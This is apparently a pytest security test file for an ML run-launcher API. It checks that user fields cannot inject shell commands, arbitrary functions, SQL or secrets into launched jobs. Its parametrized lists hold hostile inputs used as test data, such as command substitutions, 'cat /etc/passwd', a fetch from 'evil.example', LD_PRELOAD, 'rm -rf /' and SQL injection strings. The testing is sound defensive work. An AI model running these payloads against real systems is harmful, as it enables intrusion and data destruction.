"""Command injection: nothing that a user writes reaches a shell, an argument, an environment's key or a runtime_env."""

import json

import pytest

from backend.launcher.service import work_off
from contract.telemetry.events import ASSIGNMENT_VARIABLE, WorkerAssignment

CLUSTER = {
    "name": "shared",
    "address": "http://127.0.0.1:9",
    "python": "/opt/foredeck/bin/python",
    "storage_dir": "/mnt/foredeck",
    "api_url": "https://foredeck.example.org",
    "data_dirs": ["/models", "/data"],
}
HOSTILE = [
    "; touch /tmp/owned",
    "$(touch /tmp/owned)",
    "`touch /tmp/owned`",
    "' || touch /tmp/owned #",
    '" && touch /tmp/owned "',
    "| cat /etc/passwd",
    "--py-modules=https://evil.example/x.zip",
    "-m os",
    "${FOREDECK_TOKEN}",
    "%(token)s {token} %s",
    "LD_PRELOAD=/tmp/evil.so",
    "{{7*7}} ${7*7} #{7*7}",
    "../../../etc/passwd",
    '{"env_vars": {"PYTHONPATH": "/tmp"}}',
]


class Recorder:
    """A job server that takes every job and keeps what it was told."""

    def __init__(self):
        self.submissions = []

    def __enter__(self):
        return self

    def __exit__(self, *_):
        pass

    def get(self, submission_id):
        from backend.launcher.jobs import Job, JobState

        is_known = any(one.submission_id == submission_id for one in self.submissions)
        return Job(JobState.RUNNING if is_known else JobState.MISSING)

    def submit(self, submission):
        self.submissions.append(submission)

    def stop(self, submission_id):
        pass

    def log_tail(self, submission_id, num_lines):
        return []


@pytest.fixture
def submitted(client, database, settings):
    """Launches a run of the given fields; returns what Ray was told."""
    cluster = client.post("/api/v1/clusters", json=CLUSTER | {"max_concurrent_runs": 100})
    assert cluster.status_code == 201, cluster.text

    def submit(**fields):
        body = {"name": "test", "cluster": "shared", "config": {"drafter": {"kind": "none"}}} | fields
        run = client.post("/api/v1/runs", json=body)
        assert run.status_code == 202, run.text
        recorder = Recorder()
        work_off(database, settings, lambda target, wake: recorder)
        [submission] = recorder.submissions
        return run.json()["id"], submission

    return submit


def configuration(text):
    """With the text wherever a configuration takes free text."""
    source = {"kind": "jsonl", "path": "/data/" + text, "prompt_field": text, "answer_field": text}
    source["prompt_template"] = text + " {prompt}"
    reward = {"kind": "exact", "mark": text}
    task = {"kind": "dataset", "train": source, "reward": reward, "system_prompt": text}
    task |= {"validation": {"kind": "hub", "name": "a/b", "split": text, "subset": text, "revision": text}}
    return {"task": task, "policy": {"kind": "checkpoint", "path": "/models/" + text}, "drafter": {"kind": "none"}}


@pytest.mark.parametrize("text", HOSTILE)
def test_the_job_is_the_same_whatever_the_run_says(submitted, text):
    config = configuration(text.replace("..", "dots"))
    run_id, job = submitted(name=text, notes=text, labels={"a": text}, config=config)
    assert job.entrypoint == "/opt/foredeck/bin/python -m workers.main"
    assert job.submission_id == f"{run_id}-1"
    assert job.runtime_env == {}
    assert job.environment.keys() == {ASSIGNMENT_VARIABLE}
    assert job.metadata == {"run": run_id, "name": text, "attempt": "1"}
    assignment = WorkerAssignment.model_validate_json(job.environment[ASSIGNMENT_VARIABLE])
    assert (assignment.run_name, assignment.storage_dir) == (text, f"/mnt/foredeck/runs/{run_id}")
    assert json.loads(assignment.config_json)["task"]["system_prompt"] == config["task"]["system_prompt"]


@pytest.mark.parametrize(
    "config",
    [
        {"entrypoint": "rm -rf /"},
        {"runtime_env": {"pip": ["evil"]}},
        {"env_vars": {"LD_PRELOAD": "/tmp/evil.so"}},
        {"resources": {"runtime_env": {}}},
        {"rollout": {"kind": "vllm", "extra_args": ["--trust-remote-code"]}},
        {"trainer": {"kind": "torch", "python": "/tmp/evil"}},
    ],
)
def test_a_configuration_has_no_key_for_such_things(client, config):
    response = client.post("/api/v1/runs", json={"name": "x", "config": config})
    assert response.status_code == 422
    assert "unknown key" in response.json()["errors"][0]["detail"]


@pytest.mark.parametrize(
    "function",
    ["os:system", "subprocess:check_output", "builtins:eval", "our_rewards.__import__:x y", "a:b;c", "a/b:c"],
)
def test_a_reward_is_no_way_to_any_function(client, function):
    reward = {"kind": "python", "function": function}
    task = {"kind": "dataset", "train": {"kind": "jsonl", "path": "/data/a"}, "reward": reward}
    config = {"policy": {"kind": "checkpoint", "path": "/models/a"}, "drafter": {"kind": "none"}, "task": task}
    response = client.post("/api/v1/runs", json={"name": "x", "config": config})
    assert (response.status_code, response.json()["errors"][0]["pointer"]) == (422, "/config/task/reward/function")


@pytest.mark.parametrize("python", ["python; id", "$(id)", "python -c 'x'", "`id`", "py\nthon", "python&", "a'b"])
def test_not_even_an_administrator_gives_a_shell_command_as_interpreter(client, python):
    response = client.post("/api/v1/clusters", json=CLUSTER | {"python": python})
    assert (response.status_code, response.json()["errors"][0]["pointer"]) == (422, "/python")


@pytest.mark.parametrize(
    "search",
    ["%", "_", "\\", "' OR 1=1 --", "a%' OR '1'='1", ".*", "(", "[a-z]", "\\%", "__class__", "1;DROP TABLE run"],
)
def test_a_search_is_text_and_nothing_else(client, launch, search):
    """No pattern, no expression, no SQL: it finds the run that holds just that, and no other."""
    launch(name="ordinary")
    found = launch(name=f"holds {search}")["id"]
    answer = client.get("/api/v1/runs", params={"search": search}).json()
    assert [run["id"] for run in answer["items"]] == [found]
    labelled = launch(labels={"k": search})["id"]
    answer = client.get("/api/v1/runs", params={"label": f"k:{search}"}).json()
    assert [run["id"] for run in answer["items"]] == [labelled]


@pytest.mark.parametrize("cursor", ["' OR 1=1 --", "WyIxOyBEUk9QIFRBQkxFIHJ1biIsICJ4Il0", "gASVBAAAAAAAAABLAS4"])
def test_a_cursor_is_parsed_and_never_evaluated(client, cursor):
    assert client.get("/api/v1/runs", params={"cursor": cursor}).status_code == 422


SECRETS = [
    {"policy": {"kind": "checkpoint", "path": "https://me:hf_hunter2hunter2@hub.example/model"}},
    {"policy": {"kind": "checkpoint", "path": "/models/hf_" + "a1B2" * 9}},
    {"drafter": {"kind": "eagle3", "path": "/models/fdk_0a1b2c3d_" + "x" * 43}},
]


@pytest.mark.parametrize("config", SECRETS)
def test_a_configuration_holds_no_secret(client, config):
    task = {"kind": "dataset", "train": {"kind": "jsonl", "path": "/data/a"}}
    given = {"drafter": {"kind": "none"}} | config | ({"task": task} if "policy" in config else {})
    response = client.post("/api/v1/runs", json={"name": "x", "config": given})
    assert response.status_code == 422
    [error] = response.json()["errors"]
    assert error["value"] == "[redacted]"
    assert "looks like a secret" in error["detail"]
    assert all(secret not in response.text for secret in ("hunter2", "a1B2a1B2", "fdk_0a1b2c3d_xx"))
